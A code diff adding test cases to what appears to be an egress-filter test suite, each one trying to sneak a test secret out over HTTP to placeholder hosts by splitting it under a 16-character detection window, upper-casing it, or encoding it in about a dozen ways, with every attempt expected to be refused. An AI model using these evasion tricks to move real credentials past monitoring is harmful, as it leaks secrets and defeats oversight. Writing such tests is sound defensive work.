@@ -605,6 +605,83 @@ def held_for_operator(m: str) -> dict[str, Any]:
     return {"post": curl(f"https://held.allowed.test/held/{m} -d 'token={s}'", timeout=30)}
 
 
+@case("D66")
+def split_pieces(m: str) -> dict[str, Any]:
+    """ISSUE14-PIECES: the secret in pieces of at most 14 characters over the query, a
+    header and the body of one request (each below the 16-character fragment window)."""
+    s = secret("D66")
+    a, b, c = s[:14], s[14:28], s[28:]
+    return {
+        "query_header_body": curl(
+            f"'https://allowed.test/split/{m}?cursor={a}' -H 'X-Trace: {b}' -d 'tail={c}'"
+        ),
+        "headers_body": curl(
+            f"https://allowed.test/split2/{m} -H 'X-A: {s[:13]}' -H 'X-B: {s[13:26]}' "
+            f"-d 'pw={s[26:]}'"
+        ),
+    }
+
+
+@case("D67")
+def upper_hex_redacted(m: str) -> dict[str, Any]:
+    """ISSUE14-UPPER: the secret upper-cased (lossless for its hex) on a redact route."""
+    up = secret("D67").upper()
+    return {
+        "body": curl(
+            f'https://redact.allowed.test/r -H \'{JSON}\' -d \'{{"note":"{m}","sig":"{up}"}}\''
+        ),
+        "query": curl(f"'https://redact.allowed.test/q/{m}?sig={up}'"),
+    }
+
+
+def _qp_soft_break(data: bytes) -> bytes:
+    import quopri
+
+    return quopri.encodestring(b"x" * 64 + data + b"\n")
+
+
+@case("D68")
+def encodings_that_hide(m: str) -> dict[str, Any]:
+    """ISSUE14-ENCODINGS: wrapped base64, hex dumps, quoted-printable, HTML entities,
+    base85, compression without Content-Encoding (and Transfer-Encoding: gzip, chunked),
+    reversed, base32, base64 of base64, hex of base64, rot13: each refused."""
+    import codecs
+    import gzip
+
+    s = secret("D68").encode()
+    blob = os.urandom(41) + s + os.urandom(40)
+    b64 = base64.b64encode(blob).decode()
+    hx = blob.hex()
+    variants = {
+        "base64_wrapped_76": "\n".join(b64[i : i + 76] for i in range(0, len(b64), 76)).encode(),
+        "hex_xxd_p": "\n".join(hx[i : i + 60] for i in range(0, len(hx), 60)).encode(),
+        "hex_colons": ":".join(f"{x:02X}" for x in blob).encode(),
+        "quoted_printable": _qp_soft_break(s),
+        "html_entities": "".join(f"&#{x};" for x in s).encode(),
+        "ascii85": base64.a85encode(blob),
+        "gzip_no_header": gzip.compress(b"key=" + s),
+        "reversed": (b"key=" + s)[::-1],
+        "base32": base64.b32encode(b"key=" + s),
+        "base64_of_base64": base64.b64encode(base64.b64encode(b"key=" + s)),
+        "hex_of_base64": base64.b64encode(b"key=" + s).hex().encode(),
+        "rot13": codecs.encode("key=" + s.decode(), "rot13").encode(),
+    }
+    out = {k: https_post(f"/enc/{k}/{m}", v) for k, v in variants.items()}
+    payload = gzip.compress(b"key=" + s)
+    out["transfer_encoding_gzip_chunked"] = tunnel(
+        "allowed.test",
+        443,
+        (
+            f"POST /enc/te/{m} HTTP/1.1\r\nHost: allowed.test\r\n"
+            "Transfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n"
+        ).encode()
+        + f"{len(payload):x}\r\n".encode()
+        + payload
+        + b"\r\n0\r\n\r\n",
+    )
+    return out
+
+
 @case("D37")
 def encodings(m: str) -> dict[str, Any]:
     out = {}
